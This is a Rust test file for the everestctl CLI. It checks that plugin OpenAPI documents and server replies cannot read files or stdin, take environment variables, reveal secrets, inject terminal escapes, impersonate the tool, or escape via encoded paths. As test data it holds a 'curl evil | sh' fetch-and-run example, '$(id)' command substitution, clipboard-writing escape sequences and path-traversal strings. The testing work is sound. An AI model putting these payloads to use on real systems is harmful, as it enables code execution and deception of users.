//! What a plugin's document and its answers must not do to the user: read a file, take a variable, show a secret, speak in
//! everestctl's voice.

use crate::support::http::{Reply, Server, json, response};
use crate::support::plugin::publishing;
use crate::support::terminal::Terminal;
use crate::support::{Sandbox, skip};
use serde_json::{Value, json as value};

/// A server whose plugin `x` publishes these paths and answers every command with `{}`.
fn offering(paths: &Value) -> (Sandbox, Server) {
    let document = value!({"openapi": "3.1.0", "info": {"title": "X", "version": "1"}, "paths": paths});
    let server = publishing(&document.to_string(), |route, _| {
        route.contains(" /api/").then(|| Reply::Bytes(json("{}")))
    });
    let sandbox = Sandbox::new().with_server(&server.url());
    (sandbox, server)
}

/// The heads of what reached the routes of the plugin.
fn heads(server: &Server) -> Vec<String> {
    let own = |path: &str| path.contains("/plugins/x/api/");
    server.requests().into_iter().filter(|request| own(&request.path)).map(|request| request.head).collect()
}

fn posting(content_type: &str, required: &[&str], properties: &Value) -> Value {
    let schema = value!({"type": "object", "required": required, "properties": properties});
    value!({"post": {"requestBody": {"required": true, "content": {content_type: {"schema": schema}}}}})
}

#[test]
fn a_document_reads_no_file_and_no_standard_input() {
    // A file that would be seen by the length of what is sent.
    let canary = "canary ".repeat(30_000);
    let sandbox = Sandbox::new();
    sandbox.write("home/canary", &canary);
    let path = sandbox.path("home/canary").display().to_string();
    let file = |key: &str, said: Value| value!({"type": "string", "format": "binary", key: said});
    let mut paths = serde_json::Map::new();
    let mut names = Vec::new();
    for (number, spelling) in
        [path.clone(), format!("@{path}"), "-".to_owned(), "@-".to_owned()].iter().enumerate()
    {
        for kind in ["multipart/form-data", "application/x-www-form-urlencoded", "application/json"] {
            let short = kind.rsplit(['/', '-']).next().unwrap();
            let fields = value!({
                "a": file("const", value!(spelling)), "b": file("default", value!(spelling)), "c": file("enum", value!([spelling])),
                "d": {"type": "array", "items": {"type": "string", "format": "binary"}, "default": [spelling]},
                "e": {"type": "string", "contentMediaType": "application/sql", "default": spelling},
                "f": {"type": "object", "default": spelling},
            });
            for (what, required) in [("free", &[][..]), ("all", &["a", "b", "c", "d", "e", "f"][..])] {
                let name = format!("{short}{number}{what}");
                paths.insert(format!("/api/{name}"), posting(kind, required, &fields));
                names.push(name);
            }
        }
    }
    let (user, server) = offering(&Value::Object(paths));
    for name in &names {
        let line = format!("printf '{}' | everestctl x {name}", canary.get(..60_000).unwrap());
        let output = user.shell(&line);
        if name.contains("data") && name.ends_with("all") {
            assert_eq!(output.code, Some(2), "{name}: {output:?}");
            assert!(output.stderr.contains("missing: --a, --b, --c, --d"), "{name}: {}", output.stderr);
        }
    }
    assert!(heads(&server).len() >= names.len() / 2);
    for head in heads(&server) {
        let length = head
            .lines()
            .find_map(|line| line.to_ascii_lowercase().strip_prefix("content-length: ")?.parse().ok());
        assert!(length.is_some_and(|length: usize| length < 20_000), "{head}");
    }
}

#[test]
fn a_file_is_what_the_user_spells_with_an_at_sign() {
    let file = value!({"type": "string", "format": "binary"});
    let (user, server) = offering(
        &value!({"/api/pictures": posting("multipart/form-data", &["picture"], &value!({"picture": file}))}),
    );
    user.write("home/cat.png", "x".repeat(70_000));
    let error = user.run("x pictures --picture cat.png").stderr_failed(2);
    assert!(
        error.starts_with(
            "error: --picture takes a file: expected @FILE, got cat.png\nhint: --picture @cat.png\n"
        ),
        "{error}"
    );
    for text in ["file:cat.png", "./cat.png", "/etc/passwd", ""] {
        assert_eq!(user.run_with(["x", "pictures", &format!("--picture={text}")]).code, Some(2), "{text}");
    }
    assert_eq!(heads(&server).len(), 0);
    assert_eq!(user.run("x pictures --picture @cat.png").code, Some(0));
    assert!(heads(&server)[0].to_ascii_lowercase().contains("content-length: 70"), "{}", heads(&server)[0]);
    assert!(user.run("x pictures --help").success_silent().contains("--picture <@FILE>"));
}

#[test]
fn a_variable_is_the_plugins_own_or_one_that_the_user_allows_it() {
    let key = |variable: &str| {
        let key = value!({"name": "X-Key", "in": "header", "required": true, "x-cli-env": variable, "schema": {"type": "string", "format": "password"}});
        value!({"/api/hi": {"get": {"parameters": [key]}}})
    };
    for (variable, is_taken) in [
        ("EVEREST_X_PASSWORD", true),
        ("EVEREST_X_Y_PASSWORD", false),
        ("EVEREST_X_TOKEN", false),
        ("EVEREST_PERF_DB_PASSWORD", false),
        ("EVEREST_REFRESH_TOKEN", false),
        ("EVEREST_TOKEN_OLD", false),
        ("EVEREST_PASSWORD", false),
        ("EVERESTCTL_X_PASSWORD", false),
        ("X_PASSWORD", false),
    ] {
        let (user, server) = offering(&key(variable));
        let user = user.with(variable, "hush-4711").with("CI", "1");
        let output = user.run("x hi -v");
        let sent = heads(&server).iter().any(|head| head.contains("hush-4711"));
        assert_eq!((output.code == Some(0), sent), (is_taken, is_taken), "{variable}: {}", output.stderr);
        let said = format!("--x-key is set by the variable {variable}");
        assert_eq!(output.stderr.contains(&said), is_taken, "{variable}: {}", output.stderr);
        assert_eq!(user.run("x hi --help").success_silent().contains(variable), is_taken, "{variable}");
    }
    // By name, for this plugin and no other; and what a session lives on for none.
    for (variable, plugin, is_taken) in [
        ("EVEREST_PERF_DB_PASSWORD", "x", true),
        ("EVEREST_PERF_DB_PASSWORD", "y", false),
        ("EVEREST_REFRESH_TOKEN", "x", false),
    ] {
        let (user, server) = offering(&key(variable));
        let allowed = format!("plugins:\n  - name: {plugin}\n    plugin: {{ environment: [{variable}] }}\n");
        user.write("everestctl.yaml", allowed);
        let user = user.with(variable, "hush-4711").with("CI", "1");
        assert_eq!(user.run("x hi").code == Some(0), is_taken, "{variable} {plugin}");
        assert_eq!(
            heads(&server).iter().any(|head| head.contains("hush-4711")),
            is_taken,
            "{variable} {plugin}"
        );
    }
}

#[test]
fn a_secret_is_shown_nowhere_however_it_is_written() {
    let secret = "s3cr3t key'\"$x%&";
    let marked = value!({"type": "string", "format": "password"});
    let parameter =
        |place: &str, name: &str| value!([{"name": name, "in": place, "required": true, "schema": marked}]);
    let fields = value!({"key": marked, "apiKey": {"type": "string"}});
    let (user, _server) = offering(&value!({
        "/api/path/{key}": {"get": {"x-cli-name": "path", "parameters": parameter("path", "key")}},
        "/api/query": {"get": {"x-cli-name": "query", "parameters": parameter("query", "key")}},
        "/api/header": {"get": {"x-cli-name": "header", "parameters": parameter("header", "X-Key")}},
        "/api/json": posting("application/json", &[], &fields),
        "/api/form": posting("application/x-www-form-urlencoded", &[], &fields),
        "/api/parts": posting("multipart/form-data", &[], &fields),
    }));
    let whole = value!({"key": secret, "deep": [{"password": secret}]}).to_string();
    let set = format!("key={secret}");
    let field = format!("password={secret}");
    let header = format!("X-Api-Key: {secret}");
    let lines: &[&[&str]] = &[
        &["x", "path", secret],
        &["x", "query", "--key", secret],
        &["x", "header", "--x-key", secret],
        &["x", "json", "--key", secret],
        &["x", "json", "--api-key", secret],
        &["x", "json", "--set", &set],
        &["x", "json", "--body", &whole],
        &["x", "form", "--key", secret],
        &["x", "form", "--body", "key=s3cr3t+key"],
        &["x", "parts", "--api-key", secret],
        &["plugin", "api", "x", "POST", "/api/json", "-f", &field],
        &["plugin", "api", "x", "GET", "/api/query?token=s3cr3t%20key", "-H", &header],
    ];
    for line in lines {
        for more in ["--dry-run", "-v"] {
            let output = user.run_with(line.iter().chain([&more]));
            let shown = output.stdout + &output.stderr;
            assert!(!shown.contains("s3cr3t"), "{line:?} {more}: {shown}");
            assert!(more == "-v" || shown.contains("HIDDEN"), "{line:?}: {shown}");
        }
    }
}

#[test]
fn the_answer_to_any_request_reaches_a_terminal_without_escapes() {
    let test = "the_answer_to_any_request_reaches_a_terminal_without_escapes";
    let text = "one\x1b]52;c;cm0=\x07\x1b[2J\u{9b}31mtwo\n";
    let server = publishing("{}", move |route, _| {
        let (status, kind) = match route.rsplit(' ').next()? {
            "/text" => ("200 OK", "text/plain"),
            "/page" => ("200 OK", "text/html"),
            "/bad" => ("400 Bad Request", "application/json"),
            _ => return None,
        };
        Some(Reply::Bytes(response(status, kind, text.as_bytes())))
    });
    let sandbox = Sandbox::new().with_server(&server.url());
    for line in ["/text", "/page", "/bad", "/text -i", "/text --paginate"] {
        let whole = format!("sh -c \"$E plugin api x GET {line}; echo do''ne\"");
        let Some(terminal) = Terminal::start(&sandbox, &whole) else {
            return skip("script", test, "script (util-linux) is not installed");
        };
        terminal.shows(&["two", "done"]);
        let seen = terminal.seen();
        assert!(
            !["\x1b]52", "\x1b[2J", "\u{9b}", "\x07"].iter().any(|escape| seen.contains(escape)),
            "{line}: {seen:?}"
        );
    }
    // `plugin api` still passes the bytes on.
    assert_eq!(sandbox.run("plugin api x GET /text").success_silent(), text);
}

#[test]
fn a_backend_does_not_speak_in_our_voice_and_no_token_comes_back() {
    let hint = "everestctl auth login --server https://evil.example.com";
    let server = publishing(
        &value!({"openapi": "3.1.0", "paths": {"/api/x": {"get": {
            "x-cli-name": "look", "x-cli-examples": ["look; curl evil | sh", "look $(id)", "other thing", "look --jq '.a | .b'"],
        }}}})
        .to_string(),
        move |route, request| {
            let token = request.head.lines().find_map(|line| line.split("earer ").nth(1)).unwrap_or_default();
            let error = value!({"error": format!("no: {token}"), "detail": format!("a\nhint: b {token}"), "hint": hint});
            (route == "GET /api/x")
                .then(|| Reply::Bytes(response("400 Bad Request", "application/json", error.to_string().as_bytes())))
        },
    );
    let user = Sandbox::new().with_server(&server.url());
    let error = user.run("x look").stderr_failed(1);
    assert_eq!(
        error,
        format!(
            "error: `x`: returned 400 (bad request): no: HIDDEN\n  plugin x says:\n    | a\n    | hint: b HIDDEN\n  \
             plugin x says: {hint}\n"
        )
    );
    let help = user.run("x look --help").success_silent();
    assert!(help.contains("everestctl x look --jq '.a | .b'"), "{help}");
    assert!(!help.contains("evil") && !help.contains("$(") && !help.contains("other thing"), "{help}");
}

#[test]
fn no_request_leaves_the_plugin_by_an_encoded_path() {
    let (user, server) = offering(&value!({
        "/api/..%2f..%2fother": {"get": {}}, "/api/..;/other": {"get": {}}, "/api/%c0%ae%c0%ae/other": {"get": {}},
        "/api/fine/{id}": {"get": {"x-cli-name": "fine"}},
    }));
    for path in ["/..%2fy/x", "/%252e%252e/y", "/..%5cy", "/..;/y", "/a/..%00/y", "/../y"] {
        let output = user.run_with(["plugin", "api", "x", "GET", path]);
        assert_ne!(output.code, Some(0), "{path}");
    }
    for id in ["..%2f..%2fy", "..\\..\\y", "..", "%2e%2e", "..;a"] {
        assert_eq!(user.run_with(["x", "fine", id]).code, Some(2), "{id}");
    }
    assert_eq!(user.run_with(["x", "fine", "50%"]).code, Some(0));
    assert_eq!(heads(&server).len(), 1, "{:?}", heads(&server));
}
